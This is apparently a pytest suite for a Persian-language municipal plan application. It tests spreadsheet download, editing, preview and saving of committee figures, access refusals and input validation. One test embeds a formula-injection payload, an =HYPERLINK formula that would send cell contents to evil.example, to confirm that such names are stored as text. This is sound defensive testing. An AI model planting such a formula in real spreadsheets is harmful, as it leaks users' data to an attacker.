"""A committee's figures through a spreadsheet: the member downloads the committee's indicators and
projects, edits numbers (Persian digits too), uploads the workbook, sees the changes previewed with
nothing saved, and adds them to the draft; what is not the committee's, a tampered preview and
another person are refused."""

import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from people.models import User
from plan.items import owner_committee
from plan.models import Amendment, AmendmentOperation
from plan.selectors import version_state

pytestmark = pytest.mark.django_db
WHY = "بازنگری ارقام بر پایهٔ عملکرد ۱۴۰۴"


@pytest.fixture
def member(client, demo):
    client.force_login(User.objects.get(username="member"))
    return client


def _draft(member):
    committee = User.objects.get(username="member").memberships.get().committee
    member.post("/plan/amendments/new/", {"committee": committee.pk, "title": "ارقام تازه", "summary": ""})
    return Amendment.objects.get(title="ارقام تازه")


def _download(member, draft):
    answer = member.get(f"/plan/amendments/{draft.pk}/figures.xlsx")
    assert answer.status_code == 200 and answer["Content-Type"].endswith("spreadsheetml.sheet")
    return load_workbook(io.BytesIO(answer.content))


def _upload(member, draft, book, justification=WHY):
    data = io.BytesIO()
    book.save(data)
    data.seek(0)
    data.name = "figures.xlsx"
    return member.post(f"/plan/amendments/{draft.pk}/figures/preview/", {"file": data, "justification": justification})


def _cell(book, sheet, code, key):
    keys = [c.value for c in book[sheet][2]]
    row = next(r[0].row for r in book[sheet].iter_rows(min_row=3) if r[0].value == code)
    return book[sheet].cell(row=row, column=keys.index(key) + 1)


def test_figures_edited_in_a_workbook_become_the_drafts_changes(member):
    draft = _draft(member)
    book = _download(member, draft)
    state = version_state(draft.base_version)
    codes = [r[0].value for r in book["indicators"].iter_rows(min_row=3)]
    assert codes and all(owner_committee(state, c) == draft.committee.code for c in codes)  # only the committee's
    indicator, project = codes[0], book["projects"]["A3"].value
    _cell(book, "indicators", indicator, "targets.1406").value = "۸۸"  # typed on a Persian keyboard
    _cell(book, "projects", project, "budgets.1405").value = 9_000_000_000
    preview = _upload(member, draft, book)
    page = preview.content.decode()
    assert preview.status_code == 200 and "۸۸" in page and "۹٬۰۰۰٬۰۰۰٬۰۰۰" in page
    assert AmendmentOperation.objects.filter(amendment=draft).count() == 0  # a preview saves nothing
    payload = page.split('name="payload" value="')[1].split('"')[0]
    saved = member.post(f"/plan/amendments/{draft.pk}/figures/save/", {"payload": payload})
    assert saved.status_code == 302
    operations = {op.code: op for op in AmendmentOperation.objects.filter(amendment=draft)}
    assert set(operations) == {indicator, project}
    assert operations[indicator].values["targets.1406"]["new"] == 88 and operations[indicator].justification == WHY
    assert operations[project].values["budgets.1405"]["new"] == 9_000_000_000
    # the next download is the draft as it stands: the new figures, and only new edits come back
    again = _download(member, draft)
    assert _cell(again, "indicators", indicator, "targets.1406").value == 88
    _cell(again, "indicators", indicator, "baseline").value = 1
    page = _upload(member, draft, again).content.decode()
    added = page.split('name="payload" value="')[1].split('"')[0]
    member.post(f"/plan/amendments/{draft.pk}/figures/save/", {"payload": added})
    changed = AmendmentOperation.objects.filter(amendment=draft, code=indicator).order_by("position")
    assert [list(op.values) for op in changed] == [["targets.1406"], ["baseline"]]


def test_what_is_not_the_committees_or_not_its_figures_is_refused_and_nothing_saved(member):
    draft = _draft(member)
    book = _download(member, draft)
    book["indicators"]["A3"] = "IND1.1.1"  # another committee's indicator
    page = _upload(member, draft, book).content.decode()
    assert "«indicators»" in page and "IND1.1.1" in page
    book = _download(member, draft)
    _cell(book, "projects", book["projects"]["A3"].value, "budgets.1405").value = -5
    page = _upload(member, draft, book).content.decode()
    assert 'name="payload"' not in page and "errors" in page  # the amendment's rules refuse it
    unchanged = _upload(member, draft, _download(member, draft)).content.decode()
    assert 'name="payload"' not in unchanged  # nothing changed: nothing to add
    tampered = member.post(f"/plan/amendments/{draft.pk}/figures/save/", {"payload": "x:y:z"})
    assert tampered.status_code == 302
    assert AmendmentOperation.objects.filter(amendment=draft).count() == 0


def test_another_person_cannot_read_or_change_a_drafts_figures(member):
    draft = _draft(member)
    other = Client()
    other.force_login(User.objects.get(username="chair"))
    assert other.get(f"/plan/amendments/{draft.pk}/figures.xlsx").status_code == 404
    assert other.post(f"/plan/amendments/{draft.pk}/figures/save/", {"payload": "x"}).status_code == 404


def test_a_name_that_starts_with_equals_is_text_in_every_workbook_and_comes_back_unrefused(demo):
    """openpyxl writes a string starting with "=" as a formula: a name "=HYPERLINK(…)" ran in every
    reader's spreadsheet, and the committee's own unedited download was refused on upload as
    holding a formula. In the figures workbook, the plan's export and the year in review, it is text."""
    from openpyxl import Workbook

    from core.spreadsheets import append_data
    from plan import exchange
    from plan.items import operational_years
    from plan.models import Plan
    from plan.selectors import plan_export, version_in_force

    plan = Plan.objects.get(code="ahvaz-1407")
    name = '=HYPERLINK("http://evil.example/?"&B3,"پسماند")'
    state = dict(version_state(version_in_force(plan)))
    state["IND3.1.1"] = {**state["IND3.1.1"], "name_fa": name}
    data = exchange.committee_workbook(state, "C02", list(operational_years(state, plan)))
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert name in [cell.value for cell in cells] and not [cell for cell in cells if cell.data_type == "f"]
    assert exchange.committee_changes(data, state, "C02", WHY) == []  # unedited: no change, no refusal

    document = plan_export(version_in_force(plan))
    document["plan"]["name_fa"] = "=1+1"
    exported = load_workbook(io.BytesIO(exchange.workbook(document)))
    assert not [c for sheet in exported for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    sheet = Workbook().active
    append_data(sheet, ["=SUM(A1:A9)", "+98 61", "\x07bell", 12])
    assert [c.value for c in sheet[1]] == ["=SUM(A1:A9)", "+98 61", "\ufffdbell", 12]
    assert [c.data_type for c in sheet[1]] == ["s", "s", "s", "n"]


def test_a_value_typed_far_off_or_a_year_written_otherwise_is_refused_plainly(member, demo):
    """One value at XFD1048576 in a 5 KB workbook made openpyxl walk every empty cell up to it (a
    worker's memory and minutes); a per-year column renamed "budgets.1405.0" was stored as sent and
    broke the progress page, the letter and the export once issued. Both are refused, named."""
    import time

    draft = _draft(member)
    book = _download(member, draft)
    book["indicators"].cell(row=1_048_576, column=16_384).value = 1
    started = time.monotonic()
    answer = _upload(member, draft, book)
    assert time.monotonic() - started < 20
    assert "XFD" in answer.content.decode() and not AmendmentOperation.objects.filter(amendment=draft).exists()

    book = _download(member, draft)
    sheet = book["projects"]
    keys = [c.value for c in sheet[2]]
    column = next(i for i, key in enumerate(keys, start=1) if str(key).startswith("budgets."))
    year = keys[column - 1].partition(".")[2]
    sheet.cell(row=2, column=column).value = f"budgets.{year}.0"
    sheet.cell(row=3, column=column).value = 1
    answer = _upload(member, draft, book)
    assert f"budgets.{year}.0" in answer.content.decode() and "فیلد نیست" in answer.content.decode()
    assert not AmendmentOperation.objects.filter(amendment=draft).exists()


def test_a_figure_cell_formatted_as_a_date_is_named(member, demo):
    """openpyxl reads a cell formatted as a date as a date: the refusal named no cell at all."""
    import datetime as dt

    draft = _draft(member)
    book = _download(member, draft)
    sheet = book["projects"]
    keys = [c.value for c in sheet[2]]
    column = next(i for i, key in enumerate(keys, start=1) if str(key).startswith("budgets."))
    cell = sheet.cell(row=3, column=column)
    cell.value = dt.datetime(2026, 3, 21)
    answer = _upload(member, draft, book).content.decode()
    assert "تاریخ به جای عدد" in answer and f"{cell.column_letter} (" in answer and "projects" in answer
    assert not AmendmentOperation.objects.filter(amendment=draft).exists()


def test_a_public_search_is_not_kept_in_the_public_cache(demo, client):
    """Every new query kept its tree in the public cache (300 entries, the change PDFs among them)."""
    from django.core.cache import caches

    public = caches["public"]
    public.clear()
    assert client.get("/public/").status_code == 200
    kept = len(public._cache)  # LocMemCache: the whole tree, once
    for n in range(5):
        assert client.get("/public/", {"q": f"هدف {n}"}).status_code == 200
    assert len(public._cache) == kept and kept >= 1
